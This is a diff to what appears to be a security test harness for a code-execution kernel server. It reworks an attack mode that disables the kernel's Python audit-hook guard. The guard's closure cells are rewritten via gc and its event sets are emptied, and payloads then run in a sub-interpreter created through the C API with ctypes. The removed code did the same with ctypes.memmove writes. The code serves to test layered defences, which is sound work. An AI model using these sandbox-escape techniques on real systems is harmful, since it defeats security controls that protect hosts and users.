@@ -7,16 +7,18 @@ own interpreter, behind the in-kernel guard, but reaches modules the way an atta
 ``__import__`` recovered from the guard's own closure. Whatever the payload achieves here, the guard
 and the OS layers together let through.
 
-``os`` mode first switches the guard off (the guard is documented as *not* a boundary, and these
-are the two ways we found to do it from a cell): (1) the payload-28 trick with ``ctypes.memmove``
-(ctypes is loaded in every kernel): take the audit hook's frame from a refusal's traceback, follow
-frame -> _PyInterpreterFrame -> f_func to the hook function and overwrite its closure cells
-(deny_* -> False, file_io -> 'all'); (2) empty the event sets of the guard module, which stays
-reachable as ``sys.modules['_kernelexec_guard']``. Then it creates a sub-interpreter (audit hooks
-are per interpreter, so the new one has none) and runs the payload there with plain ``import``.
-Whatever the payload achieves here, the OS layers alone let through. Payloads that fork run in the
-main interpreter instead (CPython refuses ``fork`` in sub-interpreters), where the memmove already
-switched the hook off (``P['_main']``).
+``os`` mode first switches the guard off (the guard is documented as *not* a boundary), in plain Python
+that is the same on every CPython the server supports (3.11-3.13): (1) empty the event sets of the guard
+module, which stays reachable as ``sys.modules['_kernelexec_guard']`` (after this the hook lets ``gc``
+introspection through); (2) take the audit hook's code from a refusal's traceback, its function from
+``gc.get_referrers`` and rewrite its closure cells (``deny_* -> False``, ``file_io -> 'all'``) through
+``cell.cell_contents``. Then it creates a sub-interpreter (audit hooks are per interpreter, so the new
+one has none) through the *public* C API, ``Py_NewInterpreter`` / ``PyThreadState_Swap`` /
+``PyRun_SimpleString`` reached with ctypes (no private ``_xxsubinterpreters``/``_interpreters`` module,
+which differ per version), and runs the payload there with plain ``import``. Whatever the payload
+achieves here, the OS layers alone let through. Payloads that fork run in the main interpreter instead
+(``P['_main']``), where the rewritten cells already switched the hook off. A kernel where this cannot be
+done answers ``DISARM FAILED``, which fails the test: os mode that silently does not run is no evidence.
 
 The helpers are installed once per kernel (``install_cell``, into ``builtins``, so ``%reset -f`` keeps
 them); each attack is then one short cell (``attack_cell``). Each payload is Python source that may use ``M(name)`` (a module), ``P`` (the attack's parameters)
@@ -74,7 +76,7 @@ del __kxrt_attack
 '''
 
 SUB_SOURCE = r'''
-import _xxsubinterpreters as _si, importlib as _il, builtins as _b, ast as _ast
+import importlib as _il, builtins as _b, ast as _ast, os as _os
 P = _ast.literal_eval(P)
 ns = {'M': _il.import_module, 'P': P, '__builtins__': _b, '__name__': '__main__'}
 try:
@@ -82,7 +84,7 @@ try:
     r = 'completed: ' + repr(ns.get('out'))[:4000]
 except BaseException as e:
     r = 'stopped: %s: %s' % (type(e).__name__, str(e)[:600])
-_si.channel_send(CH, ('[no hooks] ' + r).encode())
+_os.write(FD, ('[no hooks] ' + r).encode())
 '''
 
 OS_TEMPLATE = r'''
@@ -91,42 +93,21 @@ def __kxrt_attack(PAYLOAD, P, SUB):
     how = []
     if getattr(sys_, '_kxrt_disarmed', None) is not None:
         how.append('already')
-    # (1) ctypes.memmove over the audit hook's closure cells
-    try:
-        ct = sys_.modules['ctypes']
-        frames = []
+    # (0) a refusal's traceback holds the audit hook's frame (taken before (1) makes the hook refuse nothing)
+    # (a write outside, or when an earlier cell switched the file checks off, a ctypes read: both refused by it)
+    frames, refused = [], False
+    for probe in (lambda: bi.open('/kxrt-disarm-probe/x', 'w'), lambda: M('ctypes').string_at(id(frames), 1)):
         try:
-            bi.open('/kxrt-disarm-probe/x', 'w')
+            probe()
         except BaseException as e:
+            refused = refused or type(e).__name__ == 'PolicyError'
             tb = e.__traceback__
             while tb is not None:
                 frames.append(tb.tb_frame)
                 tb = tb.tb_next
-        hooks = [f for f in frames if f.f_code.co_name == 'audit']
-        if hooks:
-            def rd(addr):
-                b = bytes(8)
-                ct.memmove(id(b) + 32, addr, 8)
-                return int.from_bytes(b, 'little')
-            def wr(addr, obj):
-                b = id(obj).to_bytes(8, 'little')
-                ct.memmove(addr, id(b) + 32, 8)
-            fn = ct.cast(rd(rd(id(hooks[0]) + 24)), ct.py_object).value  # frame->f_frame->f_func
-            cells = dict(zip(fn.__code__.co_freevars, fn.__closure__ or ()))
-            sys_._kxrt_keep = ['all', False]
-            for name in ('deny_process', 'deny_network', 'deny_tamper'):
-                if name in cells:
-                    wr(id(cells[name]) + 16, False)
-            if 'check_path' in cells:
-                cp = cells['check_path'].cell_contents
-                inner = dict(zip(cp.__code__.co_freevars, cp.__closure__ or ()))
-                if 'file_io' in inner:
-                    wr(id(inner['file_io']) + 16, 'all')
-            how.append('memmove')
-            sys_._kxrt_disarmed = True
-    except BaseException as e:
-        how.append('memmove failed: %r' % (e,))
-    # (2) the guard module is still in sys.modules: empty its event sets
+        if any(f.f_code.co_name == 'audit' for f in frames):
+            break
+    # (1) the guard module is still in sys.modules: empty its event sets (gc introspection passes after this)
     g = sys_.modules.get('_kernelexec_guard')
     if g is not None:
         for k in ('_TAMPER_EVENTS', '_PROCESS_EVENTS', '_NETWORK_EVENTS', '_READ_EVENTS', '_WRITE_EVENTS', '_TWO_PATH_EVENTS'):
@@ -134,28 +115,94 @@ def __kxrt_attack(PAYLOAD, P, SUB):
                 setattr(g, k, frozenset())
         g._norm = lambda p: None
         how.append('globals')
+    # (2) the audit hook itself: its code from the refusal's traceback (0), its function from gc, its closure cells
+    # rewritten (deny_* -> False, file_io -> 'all'); plain Python, the same on every version
+    try:
+        codes = [f.f_code for f in frames if f.f_code.co_name == 'audit']
+        if codes:
+            fns = [o for o in M('gc').get_referrers(codes[0]) if getattr(o, '__code__', None) is codes[0]]
+            if not fns:
+                raise LookupError('no function holds the audit hook code')
+            for fn in fns:
+                cells = dict(zip(fn.__code__.co_freevars, fn.__closure__ or ()))
+                for name in ('deny_process', 'deny_network', 'deny_tamper'):
+                    if name in cells:
+                        cells[name].cell_contents = False
+                if 'check_path' in cells:
+                    cp = cells['check_path'].cell_contents
+                    inner = dict(zip(cp.__code__.co_freevars, cp.__closure__ or ()))
+                    if 'file_io' in inner:
+                        inner['file_io'].cell_contents = 'all'
+            how.append('cells')
+            sys_._kxrt_disarmed = True
+        elif 'already' not in how and not refused:
+            how.append('no hook refused the probe')
+        elif 'already' not in how:
+            how.append('a refusal without the hook in its traceback')
+    except BaseException as e:
+        how.append('cells failed: %r' % (e,))
+    armed = not ({'cells', 'already', 'no hook refused the probe'} & set(how))  # (a hook that refuses neither probe stops nothing here)
+    if armed:  # a hook that still refuses: neither the main interpreter nor ctypes can be used
+        return 'DISARM FAILED (%s): the main interpreter still has its hook' % ', '.join(how)
     if P.get('_main'):  # fork-like payloads: CPython refuses fork in sub-interpreters, so run here
-        if 'memmove' not in how and 'already' not in how:
-            return 'DISARM FAILED (%s): the main interpreter still has its hook' % ', '.join(how)
         ns = {'M': M, 'P': P, '__builtins__': bi, '__name__': '__main__'}
         try:
             exec(PAYLOAD, ns)
             return '[hook disarmed] completed: ' + repr(ns.get('out'))[:4000]
         except BaseException as e:
             return '[hook disarmed] stopped: %s: %s' % (type(e).__name__, str(e)[:600])
+    # (3) a sub-interpreter through the public C API (Py_NewInterpreter, PyThreadState_Swap, PyRun_SimpleString,
+    # the same on 3.11-3.13): one per kernel, kept (Py_EndInterpreter leaves no thread state for ctypes to
+    # return to); the answer comes back through a pipe. No Python work runs between the swaps, and a long
+    # switch interval keeps the GIL from being handed over while the main frame runs with the sub's state.
     try:
-        si = M('_xxsubinterpreters')
-        kept = getattr(sys_, '_kxrt_interp', None)  # one sub-interpreter per kernel, reused (fast)
+        os_ = M('os')
+        ct = M('ctypes')
+        kept = getattr(sys_, '_kxrt_interp', None)
         if kept is None:
-            kept = sys_._kxrt_interp = (si.create(isolated=False), si.channel_create())
-        interp, ch = kept
+            api = ct.pythonapi
+            api.PyThreadState_Get.restype = ct.c_void_p
+            api.Py_NewInterpreter.restype = ct.c_void_p
+            api.PyThreadState_Swap.restype = ct.c_void_p
+            api.PyThreadState_Swap.argtypes = [ct.c_void_p]
+            api.PyRun_SimpleString.argtypes = [ct.c_char_p]
+            api.PyRun_SimpleString.restype = ct.c_int
+            r, w = os_.pipe()
+            os_.set_blocking(r, False)
+            kept = sys_._kxrt_interp = [api, None, r, w]
+            # at exit, 3.11/3.12 abort on a live sub-interpreter ("remaining subinterpreters"): leave first
+            M('atexit').register(lambda: (sys_.stdout.flush(), sys_.stderr.flush(), os_._exit(0)))
+        api, sub, r, w = kept
+        source = ('FD = %d\nPAYLOAD = %r\nP = %r\n' % (w, PAYLOAD, repr(P)) + SUB).encode()
+        old = sys_.getswitchinterval()
+        sys_.setswitchinterval(1000.0)
+        try:
+            main = api.PyThreadState_Get()
+            if sub is None:
+                sub = kept[1] = api.Py_NewInterpreter()  # (now the current thread state)
+                if not sub:
+                    api.PyThreadState_Swap(main)
+                    raise RuntimeError('Py_NewInterpreter failed')
+            else:
+                api.PyThreadState_Swap(sub)
+            rc = api.PyRun_SimpleString(source)
+            api.PyThreadState_Swap(main)
+        finally:
+            sys_.setswitchinterval(old)
     except BaseException as e:
-        return 'DISARM FAILED (%s): %s: %s' % (', '.join(how), type(e).__name__, e)
-    try:
-        si.run_string(interp, SUB, shared={'CH': ch, 'PAYLOAD': PAYLOAD, 'P': repr(P)})
-        return si.channel_recv(ch).decode()
-    except BaseException as e:
-        return '[no hooks] stopped: %s: %s' % (type(e).__name__, str(e)[:600])
+        return 'DISARM FAILED (%s): no sub-interpreter: %s: %s' % (', '.join(how), type(e).__name__, e)
+    chunks = []
+    while True:
+        try:
+            chunk = os_.read(r, 65536)
+        except BlockingIOError:
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    if not chunks:
+        return '[no hooks] stopped: the sub-interpreter wrote no answer (PyRun_SimpleString returned %d)' % rc
+    return b''.join(chunks).decode(errors='replace')
 __builtins__._kxrt_os = lambda PAYLOAD, P, _f=__kxrt_attack: _f(PAYLOAD, P, __KXRT_SUB__)
 del __kxrt_attack
 '''
